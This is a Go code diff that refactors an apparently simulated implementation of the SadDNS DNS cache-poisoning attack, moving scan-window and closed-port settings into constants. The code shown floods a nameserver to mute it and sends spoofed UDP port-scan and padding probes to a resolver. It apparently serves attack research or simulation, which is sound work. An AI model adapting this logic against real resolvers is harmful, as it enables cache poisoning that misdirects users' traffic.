@@ -47,21 +47,12 @@ type SadDNS struct {
 	// MuteQPS queries are flooded to the nameserver each second to
 	// keep it muted (paper: 4000). 0 disables muting.
 	MuteQPS int
-	// WindowsPerQuery bounds how many one-second scan windows a single
-	// triggered query is assumed to keep its port open (resolver
-	// timeout × retransmissions).
-	WindowsPerQuery int
 	// MaxIterations bounds the number of triggered queries.
 	MaxIterations int
 	// CheckSuccess reports whether the poison took effect; evaluated
 	// between iterations (a real attacker probes the cache through an
 	// open resolver or forwarder).
 	CheckSuccess func() bool
-
-	// KnownClosedPort is a port the attacker knows is never bound on
-	// the resolver (below the ephemeral range); used for padding and
-	// verification probes.
-	KnownClosedPort uint16
 
 	cursor  uint16 // scan position across iterations
 	floodAt time.Duration
@@ -72,6 +63,17 @@ type SadDNS struct {
 	muteWire []byte
 	chunkBuf []uint16
 }
+
+const (
+	// windowsPerQuery bounds how many one-second scan windows a single
+	// triggered query is assumed to keep its port open (resolver
+	// timeout × retransmissions).
+	windowsPerQuery = 5
+	// knownClosedPort is a port the attacker knows is never bound on
+	// the resolver (below the ephemeral range); used for padding and
+	// verification probes.
+	knownClosedPort uint16 = 1001
+)
 
 // probePayload and padPayload are the fixed bodies of scan datagrams;
 // package-level so the per-probe []byte("...") conversions do not
@@ -84,14 +86,8 @@ var (
 
 // Run executes the attack until success or MaxIterations.
 func (a *SadDNS) Run(trigger Trigger) Result {
-	if a.WindowsPerQuery <= 0 {
-		a.WindowsPerQuery = 5
-	}
 	if a.MaxIterations <= 0 {
 		a.MaxIterations = 1000
-	}
-	if a.KnownClosedPort == 0 {
-		a.KnownClosedPort = 1001
 	}
 	if !a.SpoofSource.IsValid() {
 		a.SpoofSource = a.NSAddr
@@ -160,7 +156,7 @@ func (a *SadDNS) runIteration(trigger Trigger, verifyHit *bool) {
 		trigger(func() {})
 	})
 	// Keep the NS muted at every RRL window (1s) during the iteration.
-	for sec := 1; sec < a.WindowsPerQuery; sec++ {
+	for sec := 1; sec < windowsPerQuery; sec++ {
 		clock.After(alignDelay+time.Duration(sec)*time.Second, func() {
 			if found == 0 {
 				a.mute()
@@ -168,7 +164,7 @@ func (a *SadDNS) runIteration(trigger Trigger, verifyHit *bool) {
 		})
 	}
 
-	nSlots := int(time.Duration(a.WindowsPerQuery)*time.Second/slot) - 2
+	nSlots := int(windowsPerQuery*time.Second/slot) - 2
 	for i := 0; i < nSlots; i++ {
 		t0 := alignDelay + 2*slot + time.Duration(i)*slot
 		var batch []uint16
@@ -186,7 +182,7 @@ func (a *SadDNS) runIteration(trigger Trigger, verifyHit *bool) {
 			// FIFO delivery puts the verification last within the same
 			// rate-limit window.
 			a.probe(batch)
-			a.Attacker.SendUDP(777, a.ResolverAddr, a.KnownClosedPort, []byte("verify"))
+			a.Attacker.SendUDP(777, a.ResolverAddr, knownClosedPort, []byte("verify"))
 		})
 		clock.After(t0+slot-slot/8, func() {
 			if found != 0 {
@@ -248,7 +244,7 @@ func (a *SadDNS) probe(ports []uint16) {
 		sent++
 	}
 	for pad := 0; sent < 50; pad++ {
-		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, a.KnownClosedPort-1-uint16(pad%900), padPayload)
+		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, knownClosedPort-1-uint16(pad%900), padPayload)
 		sent++
 	}
 }
